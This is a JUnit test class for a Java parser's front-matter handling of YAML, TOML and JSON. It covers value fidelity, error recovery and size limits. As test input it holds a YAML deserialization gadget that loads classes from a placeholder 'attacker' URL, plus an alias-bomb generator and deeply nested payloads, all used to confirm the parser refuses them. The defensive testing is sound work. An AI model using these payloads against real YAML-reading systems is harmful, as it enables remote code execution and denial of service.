package org.articlekit.parser.frontmatter;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.math.BigDecimal;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.articlekit.core.Article;
import org.articlekit.core.Diagnostic;
import org.articlekit.core.FrontMatter;
import org.articlekit.core.ParseException;
import org.articlekit.core.document.Nodes;
import org.articlekit.parser.ArticleParser;
import org.articlekit.parser.ParserOptions;
import org.junit.jupiter.api.Test;

/** What the front-matter map holds: values as written, safely, within limits, recovered when broken. */
class ReadingTest {

    private static final ArticleParser PARSER = ArticleParser.create();
    private static final ParserOptions STRICT = ParserOptions.builder().strict(true).build();

    @Test
    void keysKeepTheirOrderAndValuesTheirWrittenForm() {
        FrontMatter fm = Fixtures.parse("yaml-core-schema.md").metadata().frontMatter();
        assertEquals(List.of("title", "zip", "time", "version", "count", "ratio", "yes_text", "empty", "published",
                "created"), List.copyOf(fm.values().keySet()));
        assertEquals("No", fm.get("title"), "YAML 1.2: No is text");
        assertEquals("01234", fm.get("zip"), "not octal");
        assertEquals("12:30", fm.get("time"), "not sexagesimal");
        assertEquals(new BigDecimal("1.10"), fm.get("version"));
        assertEquals("1.10", fm.get("version").toString());
        assertEquals(42L, fm.get("count"));
        assertEquals("yes", fm.get("yes_text"));
        assertTrue(fm.values().containsKey("empty") && fm.get("empty") == null);
        assertEquals(Boolean.FALSE, fm.get("published"));
        assertEquals("2001-12-14t21:59:43.10-05:00", fm.get("created"), "a timestamp stays the text written");
    }

    @Test
    void tomlIntegersAtTheEdgesOfLongStayExact() {
        // Jackson's TOML reader before 2.21 dropped the first digits of any 19-digit integer (its issue #663)
        String text = "+++\nmax = 9223372036854775807\nmin = -9223372036854775808\nround = 1000000000000000000\n"
                + "grouped = 9_223_372_036_854_775_807\nbeyond = 12345678901234567890\n[table]\n"
                + "inside = [1, 9223372036854775806]\n+++\n<p>x</p>\n";
        FrontMatter toml = PARSER.parse(text.getBytes(java.nio.charset.StandardCharsets.UTF_8), "big.md")
                .metadata().frontMatter();
        assertEquals(Long.MAX_VALUE, toml.get("max"));
        assertEquals(Long.MIN_VALUE, toml.get("min"));
        assertEquals(1_000_000_000_000_000_000L, toml.get("round"));
        assertEquals(Long.MAX_VALUE, toml.get("grouped"));
        assertEquals(new java.math.BigInteger("12345678901234567890"), toml.get("beyond"));
        assertEquals(Map.of("inside", List.of(1L, Long.MAX_VALUE - 1)), toml.get("table"));
    }

    @Test
    void tomlAndJsonKeepOrderNestingAndWrittenDates() {
        FrontMatter toml = Fixtures.parse("toml-params.md").metadata().frontMatter();
        assertEquals(List.of("title", "date", "lastmod", "tags", "draft", "params"), List.copyOf(toml.values().keySet()));
        assertEquals("2011-07-18T15:04:20Z", toml.get("date"));
        assertEquals("2011-07-19", toml.get("lastmod"));
        assertEquals(Map.of("cover", "https://example.org/cover.png", "author", "Hugo Author"), toml.get("params"));

        FrontMatter json = Fixtures.parse("json-hugo.md").metadata().frontMatter();
        assertEquals(List.of("title", "date", "categories", "nested"), List.copyOf(json.values().keySet()));
        @SuppressWarnings("unchecked")
        List<Object> nested = (List<Object>) ((Map<String, Object>) json.get("nested")).get("a");
        assertEquals(1L, nested.get(0));
        assertEquals(new BigDecimal("2.50"), nested.get(1));
        assertEquals(Boolean.TRUE, nested.get(2));
        assertNull(nested.get(3));
    }

    @Test
    void tagsThatWouldBuildObjectsStayText() {
        Article article = PARSER.parse("---\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker/\"]]]]\ny: !!binary aGk=\nz: !custom 5\n---\n<p>b</p>", "a.md");
        FrontMatter fm = article.metadata().frontMatter();
        assertEquals(List.of(List.of(List.of(List.of("http://attacker/")))), fm.get("x"));
        assertEquals("aGk=", fm.get("y"));
        assertEquals("5", fm.get("z"));
    }

    @Test
    void billionLaughsFailsFastWithAClearDiagnosticAndTheBodySurvives() {
        Article article = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Fixtures.parse("yaml-bomb.md"));
        assertEquals(List.of("front-matter-limit@2:1"), Fixtures.positions(article));
        assertTrue(article.diagnostics().get(0).message().contains("aliases"), article.diagnostics().toString());
        assertEquals("Body survives.", Nodes.text(article.content()).strip());
        assertThrows(ParseException.class, () -> Fixtures.parse("yaml-bomb.md", STRICT));
    }

    @Test
    void aBombUnderTheAliasLimitIsStoppedByTheValueBudget() {
        // 3 aliases a level, 16 levels: 48 aliases, 3^16 = 43 million values once expanded
        StringBuilder yaml = new StringBuilder("---\nl0: &l0 [x, x, x]\n");
        for (int i = 1; i <= 16; i++) {
            yaml.append("l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l")
                    .append(i - 1).append(", *l").append(i - 1).append("]\n");
        }
        yaml.append("---\n<p>body</p>\n");
        Article article = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> PARSER.parse(yaml.toString(), "b.md"));
        assertEquals(List.of("front-matter-limit@2:1"), Fixtures.positions(article));
        assertTrue(article.metadata().frontMatter().isEmpty());
    }

    @Test
    void deepNestingIsRefusedInEveryFormat() {
        String deepYaml = "---\na: " + "[".repeat(5000) + "]".repeat(5000) + "\n---\n<p>b</p>";
        String deepJson = "{\"a\": " + "[".repeat(200) + "]".repeat(200) + "}\n<p>b</p>";
        // past Jackson's own nesting limit, and deep enough for ours in a block read line by line (the bad line)
        String deepToml = "+++\n[" + "a.".repeat(20_000) + "b]\nx = 1\n+++\n<p>b</p>";
        String deepBrokenToml = "+++\n[" + "a.".repeat(150) + "b]\nx = 1\nnot toml\n+++\n<p>b</p>";
        String deepTomlArray = "+++\na = " + "[".repeat(200) + "]".repeat(200) + "\n+++\n<p>b</p>";
        for (String input : List.of(deepYaml, deepJson, deepToml, deepBrokenToml, deepTomlArray)) {
            Article article = PARSER.parse(input, "d.md");
            assertEquals("front-matter-limit", article.diagnostics().get(0).code(), article.diagnostics().toString());
            assertTrue(!article.diagnostics().get(0).message().contains("StreamReadConstraints"),
                    "a message for a person, not a library's setting: " + article.diagnostics().get(0).message());
            assertEquals("b", Nodes.text(article.content()).strip());
        }
    }

    @Test
    void recursiveAliasBecomesNullWithADiagnostic() {
        Article article = PARSER.parse("---\na: &a [1, *a]\ntitle: t\n---\n", "r.md");
        assertEquals("t", article.metadata().title());
        assertEquals(java.util.Arrays.asList(1L, null), article.metadata().frontMatter().get("a"));
        assertEquals(List.of("front-matter-recursive-alias@2:4"), Fixtures.positions(article));
    }

    @Test
    void brokenYamlIsRecoveredEntryByEntryWithTheFaultsPositions() {
        Article article = Fixtures.parse("yaml-broken.md");
        FrontMatter fm = article.metadata().frontMatter();
        assertEquals("Broken: a title whose quotes don't close", fm.get("title"));
        assertEquals("2018-05-01 10:00", fm.get("date"));
        assertEquals("@someone", fm.get("author"));
        assertEquals(List.of("recovery", "yaml"), fm.get("tags"));
        assertEquals(List.of("a", "b"), fm.get("categories"));
        assertEquals(List.of("front-matter-syntax@2:8", "front-matter-syntax@4:9"), Fixtures.positions(article));
        assertTrue(article.diagnostics().stream().allMatch(d -> d.severity() == Diagnostic.Severity.WARNING));
        assertTrue(Nodes.text(article.content()).contains("the body is still read"));
    }

    @Test
    void colonsAndIndicatorsInUnquotedTitlesAreRecoveredAsWritten() {
        Article article = PARSER.parse("---\ntitle: Re: a reply: with colons\nx: `code`\ntags: [a, b\ncategories:\n"
                + "  - ok\n---\n<p>b</p>", "c.md");
        FrontMatter fm = article.metadata().frontMatter();
        assertEquals("Re: a reply: with colons", fm.get("title"));
        assertEquals("`code`", fm.get("x"));
        assertEquals("[a, b", fm.get("tags"));
        assertEquals(List.of("ok"), fm.get("categories"));
        assertEquals(List.of("front-matter-syntax@2:10", "front-matter-syntax@3:4", "front-matter-syntax@4:7"),
                Fixtures.positions(article));
    }

    @Test
    void brokenYamlIsAnErrorWhenStrict() {
        ParseException e = assertThrows(ParseException.class, () -> Fixtures.parse("yaml-broken.md", STRICT));
        Diagnostic first = e.diagnostics().get(0);
        assertEquals(Diagnostic.Severity.ERROR, first.severity());
        assertEquals("front-matter-syntax", first.code());
        assertEquals(2, first.line(), "the unclosed quote's line");
        assertTrue(e.getMessage().contains("posts/yaml-broken.md:2:"), e.getMessage());
    }

    @Test
    void brokenTomlAndJsonAreRecovered() {
        Article toml = Fixtures.parse("toml-broken.md");
        assertEquals("Broken TOML", toml.metadata().title());
        assertEquals("2017-05-08T06:51:03+05:30", org.articlekit.core.IsoDates.format(toml.metadata().date()));
        assertEquals(List.of("haiku", "gsoc"), toml.metadata().tags());
        assertEquals(List.of("front-matter-syntax@2:21"), Fixtures.positions(toml));

        Article json = Fixtures.parse("json-broken.md");
        assertEquals("Trailing comma", json.metadata().title());
        assertEquals(List.of("a", "b"), json.metadata().tags());
        assertEquals(List.of("front-matter-syntax@3:21"), Fixtures.positions(json));
        assertThrows(ParseException.class, () -> Fixtures.parse("json-broken.md", STRICT));
    }

    @Test
    void nonMappingFrontMatterHasItsOwnDiagnostic() {
        Article article = Fixtures.parse("yaml-not-a-map.md");
        assertEquals(List.of("front-matter-not-a-map@1:5"), Fixtures.positions(article));
        assertTrue(article.diagnostics().get(0).message().contains("'42'"));
        assertEquals(List.of("front-matter-not-a-map@2:1"),
                Fixtures.positions(PARSER.parse("---\n- a\n- b\n---\n<p>x</p>", "l.md")));
        assertEquals(List.of("front-matter-not-a-map@2:1"), Fixtures.positions(PARSER.parse(";;;\n[1]\n;;;\n", "j.md")));
    }

    @Test
    void duplicateKeysHaveTheirOwnDiagnosticAndTheLaterValueWins() {
        Article article = Fixtures.parse("yaml-duplicate-keys.md");
        assertEquals("Second title", article.metadata().title());
        assertEquals(List.of("front-matter-duplicate-key@4:1"), Fixtures.positions(article));
        assertTrue(article.diagnostics().get(0).message().contains("first on line 2"));
        Article json = PARSER.parse("{\"a\": 1,\n \"a\": 2}\n", "j.md");
        assertEquals(2L, json.metadata().frontMatter().get("a"));
        assertEquals(List.of("front-matter-duplicate-key@2:2"), Fixtures.positions(json));
        assertThrows(ParseException.class, () -> Fixtures.parse("yaml-duplicate-keys.md", STRICT));
        Article bare = PARSER.parse("\"title\": \"a\",\n \"title\": \"b\"\n;;;\n", "h.md");
        assertEquals("b", bare.metadata().title());
        assertEquals(List.of("front-matter-duplicate-key@2:2"), Fixtures.positions(bare), "Hexo's bare JSON too");
    }

    @Test
    void tabIndentationHasItsOwnDiagnosticAndIsStillRead() {
        Article article = Fixtures.parse("yaml-tabs.md");
        assertEquals(List.of("one", "two"), article.metadata().categories());
        assertEquals(List.of("front-matter-tab@4:1"), Fixtures.positions(article));
        assertThrows(ParseException.class, () -> Fixtures.parse("yaml-tabs.md", STRICT));
    }

    @Test
    void limitsAreOptionsAndEachRefusalIsADiagnosticOrParseException() {
        ParserOptions small = ParserOptions.builder().maxFrontMatterBytes(10).build();
        Article article = Fixtures.parse("yaml-wordpress-import.md", small);
        assertEquals(List.of("front-matter-too-large@2:1"), Fixtures.positions(article));
        assertTrue(article.metadata().frontMatter().isEmpty());
        assertEquals("Imported from WordPress.", Nodes.text(article.content()).strip());

        ParseException input = assertThrows(ParseException.class,
                () -> Fixtures.parse("yaml-empty.md", ParserOptions.builder().maxInputBytes(10).build()));
        assertEquals("input-too-large", input.diagnostics().get(0).code());
        ParseException body = assertThrows(ParseException.class,
                () -> Fixtures.parse("yaml-empty.md", ParserOptions.builder().maxBodyBytes(10).build()));
        assertEquals(List.of("body-too-large@3:1"), Fixtures.positions(body.diagnostics()));
        ParseException values = assertThrows(ParseException.class, () -> Fixtures.parse("yaml-wordpress-import.md",
                ParserOptions.builder().strict(true).maxFrontMatterValues(5).build()));
        assertEquals("front-matter-limit", values.diagnostics().get(0).code());
    }
}
